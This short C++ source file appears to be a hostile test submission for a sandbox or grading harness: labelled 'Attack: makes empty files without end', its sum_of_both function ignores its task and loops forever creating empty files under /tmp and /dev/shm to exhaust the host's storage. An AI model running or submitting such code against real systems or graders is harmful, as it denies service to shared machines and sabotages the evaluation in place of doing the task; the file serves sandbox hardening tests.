// Attack: makes empty files without end.
// Outcome: TBD
#include "sum_of_both.hpp"

#include <fcntl.h>
#include <unistd.h>

#include <string>

int sum_of_both(int (*)(int index)) {
  for (int number = 0;; ++number) {
    for (const char* folder : {"/tmp/interleave-hostile", "/dev/shm/interleave-hostile"}) {
      close(open((folder + std::to_string(number)).c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
    }
  }
}
